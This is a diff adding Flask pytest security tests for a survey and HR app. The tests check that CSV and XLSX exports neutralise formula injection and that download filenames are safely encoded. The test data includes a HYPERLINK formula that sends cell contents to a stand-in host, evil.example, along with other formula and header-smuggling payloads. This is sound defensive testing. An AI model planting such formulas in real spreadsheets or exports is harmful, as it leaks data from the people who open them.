@@ -1,0 +1,168 @@
+"""What the attack of issue 17 found, each reproduced through HTTP: formula injection in
+exports, raw unit codes in Content-Disposition, huge integers, unbounded input, read-only
+roles writing through ownership, the last admin, orphaned report jobs."""
+
+from __future__ import annotations
+
+import csv
+import io
+from datetime import date
+from urllib.parse import quote
+
+import pytest
+from flask import Flask
+from flask.testing import FlaskClient
+from openpyxl import load_workbook
+from sqlalchemy import select
+from werkzeug.http import parse_options_header
+
+from app.extensions import db
+from app.models import Organisation, OrganisationKind, Role, Unit, User
+from app.services import followup
+from tests.conftest import login
+from tests.followup_data import measure
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1;"klik")'
+
+
+@pytest.fixture
+def measured(app: Flask, org) -> int:
+    with app.app_context():
+        db.session.add(Organisation(name="T", kind=OrganisationKind.MUNICIPALITY))
+        return measure().id
+
+
+def _rename(app: Flask, code: str, name: str) -> None:
+    with app.app_context():
+        db.session.scalar(select(Unit).where(Unit.code == code)).name = name
+        db.session.commit()
+
+
+def _csv(response) -> list[list[str]]:
+    assert response.status_code == 200, response.status_code
+    text = response.get_data(as_text=True).lstrip("\ufeff")
+    return list(csv.reader(io.StringIO(text), delimiter=";"))
+
+
+def _xlsx(response) -> list[tuple]:
+    assert response.status_code == 200, response.status_code
+    sheet = load_workbook(io.BytesIO(response.data)).worksheets[0]
+    return list(sheet.iter_rows(values_only=True))
+
+
+def _no_live_formula(cells) -> None:
+    for cell in cells:
+        if isinstance(cell, str):
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
+
+
+# --- 1. formula injection ----------------------------------------------------------------
+
+
+def test_board_exports_neutralise_formulas(
+    app: Flask, client: FlaskClient, measured: int, make_user
+) -> None:
+    leader = make_user("leder@x.dk", [(Role.LEADER, "A")])
+    with app.app_context():
+        follow_up = followup.start(
+            db.session, db.session.get(User, leader.id), _measurement(measured), _unit("A1")
+        )
+        for title in (FORMULA, "+1+2", "-3+4", "@SUM(A1)", "\tx", "\rx"):
+            followup.add_action(
+                db.session, db.session.get(User, leader.id), follow_up, title=title,
+                deadline=date(2026, 9, 1),
+            )  # fmt: skip
+        db.session.commit()
+    login(client, "leder@x.dk")
+    rows = _csv(client.get("/board/export.csv?scope=subtree&unit=A"))
+    titles = {row[1] for row in rows[1:]}
+    assert "'" + FORMULA in titles and "'+1+2" in titles and "'@SUM(A1)" in titles
+    _no_live_formula(cell for row in rows for cell in row)
+    sheet = _xlsx(client.get("/board/export.xlsx?scope=subtree&unit=A"))
+    assert "'" + FORMULA in {row[1] for row in sheet[1:]}
+    _no_live_formula(cell for row in sheet for cell in row)
+    assert all(isinstance(row[0], int) for row in sheet[1:])  # ids stay numbers
+
+
+def _measurement(measurement_id: int):
+    from app.models import Measurement
+
+    return db.session.get(Measurement, measurement_id)
+
+
+def _unit(code: str) -> Unit:
+    return db.session.scalar(select(Unit).where(Unit.code == code))
+
+
+def test_results_and_followup_overviews_neutralise_formulas(
+    app: Flask, client: FlaskClient, measured: int, make_user
+) -> None:
+    make_user("hr@x.dk", [(Role.ADMIN, "R")])
+    _rename(app, "A1", FORMULA)
+    _rename(app, "A2", "-2+3")
+    login(client, "hr@x.dk")
+    for url in (f"/results/export.csv?m={measured}", f"/followup/overview.csv?m={measured}"):
+        rows = _csv(client.get(url))
+        names = {row[1] for row in rows[1:]}
+        assert "'" + FORMULA in names and "'-2+3" in names, url
+        _no_live_formula(cell for row in rows for cell in row)
+    for url in (f"/results/export.xlsx?m={measured}", f"/followup/overview.xlsx?m={measured}"):
+        sheet = _xlsx(client.get(url))
+        by_name = {row[1]: row for row in sheet[1:]}
+        assert "'" + FORMULA in by_name and "'-2+3" in by_name, url
+        _no_live_formula(cell for row in sheet for cell in row)
+        assert any(type(c) is int for c in by_name["'" + FORMULA])  # numbers stay numbers
+
+
+def test_import_errors_csv_neutralises_formulas(
+    app: Flask, client: FlaskClient, org, make_user
+) -> None:
+    from app.services.measurements import find_or_prepare_measurement
+
+    make_user("hr@x.dk", [(Role.ADMIN, "R")])
+    with app.app_context():
+        measurement_id = find_or_prepare_measurement(
+            db.session, name="APV 2026", year=2026, template_code="apv"
+        ).id
+        db.session.commit()
+    login(client, "hr@x.dk")
+    content = (
+        "unit_id;unit_name;parent_id;invited;question_id;n_1;n_2;n_3;n_4;n_5;n_dont_know\n"
+        "R;Testby;;;;;;;;;\n"
+        "A1;Team 1;=1+1;9;PT-1;0;1;2;3;1;0\n"
+    )
+    response = client.post(
+        "/imports/check",
+        data={
+            "measurement_id": str(measurement_id),
+            "file": (io.BytesIO(content.encode()), "r.csv"),
+        },
+        content_type="multipart/form-data",
+        headers={"HX-Request": "true"},
+    )
+    rows = _csv(client.get(response.headers["HX-Push-Url"] + "/errors.csv"))
+    assert any("'=1+1" in row for row in rows)
+    _no_live_formula(cell for row in rows for cell in row)
+
+
+# --- 2. Content-Disposition --------------------------------------------------------------
+
+
+def test_downloads_name_files_per_rfc_6266(
+    app: Flask, client: FlaskClient, measured: int, make_user
+) -> None:
+    code = 'Ø1"; x=y\\Ω'
+    with app.app_context():
+        _unit("A1").code = code
+        db.session.commit()
+    make_user("leder@x.dk", [(Role.LEADER, "A")])
+    login(client, "leder@x.dk")
+    assert client.post(f"/followup/{measured}/{quote(code, safe='')}/start").status_code == 302
+    response = client.get(f"/followup/{measured}/{quote(code, safe='')}/invitation.pdf")
+    assert response.status_code == 200
+    header = response.headers["Content-Disposition"]
+    header.encode("ascii")  # nothing outside ASCII, no raw quote breaking the value
+    kind, options = parse_options_header(header)  # decodes filename* (RFC 5987)
+    assert kind == "inline"
+    assert options["filename"] == "invitation-Ø1\"; x=y_Ω.pdf"  # "\\" is no path part
+    assert 'filename="invitation-_1___x_y__.pdf";' in header  # the ASCII fallback
